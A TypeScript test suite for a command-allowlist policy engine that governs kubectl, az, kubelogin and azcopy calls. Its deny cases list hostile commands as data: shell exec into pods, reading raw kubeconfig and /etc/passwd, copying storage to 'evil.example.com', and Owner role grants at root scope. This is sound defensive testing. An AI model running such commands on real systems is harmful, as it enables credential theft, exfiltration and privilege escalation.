// The policy engine and the two shipped policies, evaluated directly (pure functions, no server).
import { describe, expect, it } from 'vitest';

import { compilePolicy, evaluate, PolicyFormatError, type Policy } from '../policy';
import localDoc from '../policy/local.json';
import productionDoc from '../policy/production.json';

const local = compilePolicy(localDoc);
const production = compilePolicy(productionDoc);

function allowed(policy: Policy, argv: string[]): boolean {
  return evaluate(policy, argv).allowed;
}
function rule(policy: Policy, argv: string[]): string | undefined {
  const d = evaluate(policy, argv);
  return d.allowed ? undefined : d.rule;
}

const K = ['kubectl', '--kubeconfig', 'kubeconfig'];

describe('local policy', () => {
  it.each([
    [[...K, 'apply', '--server-side', '--field-manager=elb-control', '-f', '-']],
    [[...K, 'apply', '--server-side', '--field-manager=elb-control', '--force-conflicts', '-f', '-']],
    [[...K, '--context', 'elb-sim', 'apply', '--server-side', '--field-manager', 'elb-control', '-f', '-']],
    [[...K, 'get', 'deployment', 'elb-openapi', '-n', 'elb-openapi', '-o', 'json']],
    [[...K, '--namespace=elb-openapi', 'get', 'pods', '-l', 'app=elb-openapi', '-o', 'json']],
    [[...K, 'get', 'events', '--field-selector', 'type=Warning', '-A', '-o', 'json']],
    [[...K, 'rollout', 'status', 'deployment/elb-openapi', '-n', 'elb-openapi', '--timeout=120s']],
    [[...K, 'wait', '--for=condition=Available', 'deployment/elb-openapi', '--timeout=60s']],
    [[...K, 'diff', '--server-side', '-f', '-']],
    [[...K, 'delete', 'namespace', 'elb-openapi', '--ignore-not-found', '--wait=false']],
    [['kubectl', 'version', '--client', '-o', 'json']],
    [[...K, 'version', '-o', 'json']],
    [[...K, 'get', '--', 'pods']],
  ])('allows %j', (argv) => {
    expect(evaluate(local, argv)).toMatchObject({ allowed: true, binary: 'kubectl' });
  });

  it.each([
    ['exec', [...K, 'exec', 'pod', '--', 'sh'], 'binaries.kubectl.commands'],
    ['proxy', [...K, 'proxy'], 'binaries.kubectl.commands'],
    ['port-forward', [...K, 'port-forward', 'svc/x', '80'], 'binaries.kubectl.commands'],
    ['cp', [...K, 'cp', 'a', 'b'], 'binaries.kubectl.commands'],
    ['debug', [...K, 'debug', 'node/x'], 'binaries.kubectl.commands'],
    ['attach', [...K, 'attach', 'pod'], 'binaries.kubectl.commands'],
    ['auth', [...K, 'auth', 'can-i', '*', '*'], 'binaries.kubectl.commands'],
    ['config', [...K, 'config', 'view', '--raw'], 'binaries.kubectl.commands'],
    ['a plugin', [...K, 'my-plugin'], 'binaries.kubectl.commands'],
    ['rollout without a verb', [...K, 'rollout'], 'binaries.kubectl.commands'],
    ['rollout restart', [...K, 'rollout', 'restart', 'deploy/x'], 'binaries.kubectl.commands'],
    ['--token', [...K, 'get', 'pods', '--token', 'abc'], 'binaries.kubectl.commands.get.flags'],
    [
      '--server before the verb',
      ['kubectl', '--server', 'http://evil', 'get', 'pods'],
      'binaries.kubectl.global_flags',
    ],
    ['-k (kustomize dirs)', [...K, 'apply', '-k', '.'], 'binaries.kubectl.commands.apply.flags'],
    ['--prune', [...K, 'apply', '--prune', '-f', '-'], 'binaries.kubectl.commands.apply.flags'],
    ['combined short flag value', [...K, 'get', 'pods', '-nfoo'], 'binaries.kubectl.commands.get.flags'],
    ['go-template output', [...K, 'get', 'pods', '-o', 'go-template={{.}}'], 'binaries.kubectl.flags.--output'],
    ['a missing kubeconfig', ['kubectl', 'get', 'pods'], 'binaries.kubectl.commands.get.required_flags'],
    ['a positional flag-looking name', [...K, 'get', '--', '-x'], 'binaries.kubectl.commands.get.positionals'],
    [
      'too many rollout targets',
      [...K, 'rollout', 'status', 'a', 'b'],
      'binaries.kubectl.commands.rollout status.positionals',
    ],
    ['a flag without its value', [...K, 'get', 'pods', '-n'], 'binaries.kubectl.flags'],
  ])('denies %s', (_name, argv, expected) => {
    expect(rule(local, argv)).toBe(expected);
  });

  it.each([
    ['..', '../kubeconfig'],
    ['nested ..', 'a/b/../../../kubeconfig'],
    ['absolute', '/etc/kubernetes/admin.conf'],
    ['a URL', 'https://example.com/kubeconfig'],
    ['empty', ''],
  ])('denies a %s kubeconfig path', (_name, value) => {
    expect(rule(local, ['kubectl', '--kubeconfig', value, 'get', 'ns'])).toBe('binaries.kubectl.flags.--kubeconfig');
    expect(rule(local, ['kubectl', `--kubeconfig=${value}`, 'get', 'ns'])).toBe('binaries.kubectl.flags.--kubeconfig');
  });

  it('reports path arguments for the runtime check, and not stdin', () => {
    const d = evaluate(local, [...K, 'apply', '-f', '-', '-f', 'extra.yaml']);
    expect(d.allowed && d.paths).toEqual([
      { where: '--kubeconfig', value: 'kubeconfig', kubeconfig: true },
      { where: '-f', value: 'extra.yaml', kubeconfig: false },
    ]);
  });

  it('never repeats a flag value in a denial message', () => {
    const d = evaluate(local, [...K, 'get', 'pods', '--token=s3cr3t-value']);
    expect(d.allowed).toBe(false);
    expect(JSON.stringify(d)).not.toContain('s3cr3t-value');
  });

  it('denies binaries it does not name', () => {
    for (const bin of ['az', 'sh', 'kubelogin', 'azcopy', 'git', 'elastic-blast', '']) {
      expect(rule(local, [bin, 'x'])).toBe('binaries');
    }
  });
});

describe('production policy', () => {
  it.each([
    [['az', 'login', '--identity', '--allow-no-subscriptions', '--only-show-errors']],
    [['az', 'login', '--identity', '--client-id', '00000000-0000-0000-0000-000000000001']],
    [['az', 'account', 'show', '-o', 'json']],
    [['az', 'aks', 'get-credentials', '-g', 'rg', '-n', 'aks1', '--file', 'kubeconfig', '--overwrite-existing']],
    [['az', 'aks', 'show', '--resource-group', 'rg', '--name', 'aks1', '--query', 'oidcIssuerProfile.issuerUrl']],
    [['az', 'identity', 'create', '-g', 'rg', '-n', 'elb-openapi-id', '-l', 'eastus']],
    [['az', 'identity', 'show', '-g', 'rg', '-n', 'elb-openapi-id']],
    [
      [
        'az',
        'identity',
        'federated-credential',
        'create',
        '-g',
        'rg',
        '--identity-name',
        'elb-openapi-id',
        '-n',
        'fic',
        '--issuer',
        'https://eastus.oic.prod-aks.azure.com/tenant/guid/',
        '--subject',
        'system:serviceaccount:elb-openapi:elb-openapi',
      ],
    ],
    [
      [
        'az',
        'role',
        'assignment',
        'create',
        '--assignee-object-id',
        'oid',
        '--assignee-principal-type',
        'ServicePrincipal',
        '--role',
        'Storage Blob Data Contributor',
        '--scope',
        '/subscriptions/s/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/sa',
      ],
    ],
    [['az', 'role', 'assignment', 'list', '--assignee', 'oid', '--all']],
    [['kubelogin', 'convert-kubeconfig', '-l', 'msi', '--kubeconfig', 'kubeconfig']],
    [
      [
        'azcopy',
        'copy',
        'https://src.blob.core.windows.net/c/x',
        'https://dst.blob.core.windows.net/c/x',
        '--recursive',
      ],
    ],
    [['azcopy', 'list', 'https://src.blob.core.windows.net/c']],
    [[...K, 'apply', '--server-side', '--field-manager=elb-control', '-f', '-']],
    [[...K, 'get', 'svc', 'elb-openapi', '-n', 'elb-openapi', '-o', 'json']],
  ])('allows %j', (argv) => {
    expect(allowed(production, argv)).toBe(true);
  });

  it.each([
    ['az rest', ['az', 'rest', '--url', 'https://management.azure.com/'], 'binaries.az.commands'],
    ['az vm run-command', ['az', 'vm', 'run-command', 'invoke'], 'binaries.az.commands'],
    ['az aks command invoke', ['az', 'aks', 'command', 'invoke'], 'binaries.az.commands'],
    ['az login with a password', ['az', 'login', '-u', 'x', '-p', 'y'], 'binaries.az.commands.login.flags'],
    ['az login without --identity', ['az', 'login'], 'binaries.az.commands.login.required_flags'],
    ['az role assignment delete', ['az', 'role', 'assignment', 'delete'], 'binaries.az.commands'],
    [
      'az role assignment at a bad scope',
      ['az', 'role', 'assignment', 'create', '--role', 'Owner', '--scope', '/'],
      'binaries.az.flags.--scope',
    ],
    ['az --debug (prints tokens)', ['az', '--debug', 'account', 'show'], 'binaries.az.global_flags'],
    [
      'credentials outside the work dir',
      ['az', 'aks', 'get-credentials', '-g', 'r', '-n', 'c', '--file', '/root/.kube/config'],
      'binaries.az.flags.--file',
    ],
    [
      'credentials in HOME (default path)',
      ['az', 'aks', 'get-credentials', '-g', 'r', '-n', 'c'],
      'binaries.az.commands.aks get-credentials.required_flags',
    ],
    ['kubelogin get-token', ['kubelogin', 'get-token'], 'binaries.kubelogin.commands'],
    [
      'azcopy to a local path',
      ['azcopy', 'copy', '/etc/passwd', 'https://x.blob.core.windows.net/c/p'],
      'binaries.azcopy.commands.copy.positionals',
    ],
    [
      'azcopy to another host',
      ['azcopy', 'copy', 'https://a.blob.core.windows.net/c', 'https://evil.example.com/x'],
      'binaries.azcopy.commands.copy.positionals',
    ],
    ['kubectl delete', [...K, 'delete', 'ns', 'x'], 'binaries.kubectl.commands'],
    ['kubectl exec', [...K, 'exec', 'x'], 'binaries.kubectl.commands'],
  ])('denies %s', (_name, argv, expected) => {
    expect(rule(production, argv)).toBe(expected);
  });

  it('passes the managed identity variables but never EXEC_*', () => {
    expect(production.env.pass).toContain('IDENTITY_ENDPOINT');
    expect(production.env.pass.some((n) => n.startsWith('EXEC_'))).toBe(false);
    expect(production.kubeconfigExecCommands).toEqual(['kubelogin']);
  });
});

describe('policy format', () => {
  const minimal = { version: 1, name: 't', binaries: { tool: { commands: { run: {} } } } };

  it('compiles a minimal policy with safe defaults', () => {
    const p = compilePolicy(minimal);
    expect(p.env).toEqual({ path: '/usr/local/bin:/usr/bin:/bin', pass: [], set: {} });
    expect(evaluate(p, ['tool', 'run'])).toMatchObject({ allowed: true, verb: 'run', executable: 'tool' });
    expect(evaluate(p, ['tool', 'run', 'extra']).allowed).toBe(false);
  });

  it.each([
    ['a wrong version', { ...minimal, version: 2 }],
    ['an unknown key', { ...minimal, extra: true }],
    ['EXEC_TOKEN passed to children', { ...minimal, env: { pass: ['EXEC_TOKEN'] } }],
    ['HOME overridden', { ...minimal, env: { set: { HOME: '/root' } } }],
    ['a relative path root', { ...minimal, path_roots: ['tmp'] }],
    [
      'a relative executable with a slash',
      { ...minimal, binaries: { tool: { executable: 'bin/tool', commands: { run: {} } } } },
    ],
    [
      'an unknown value kind',
      { ...minimal, binaries: { tool: { commands: { run: { flags: { '--x': { value: 'any' } } } } } } },
    ],
    ['a prefix subcommand', { ...minimal, binaries: { tool: { commands: { a: {}, 'a b': {} } } } }],
    [
      'a bad regex',
      {
        ...minimal,
        binaries: { tool: { commands: { run: { flags: { '--x': { value: 'pattern', pattern: '(' } } } } } },
      },
    ],
    [
      'a required flag it does not define',
      { ...minimal, binaries: { tool: { commands: { run: { required_flags: ['--x'] } } } } },
    ],
    ['no commands', { ...minimal, binaries: { tool: { commands: {} } } }],
  ])('rejects %s', (_name, doc) => {
    expect(() => compilePolicy(doc)).toThrow(PolicyFormatError);
  });
});
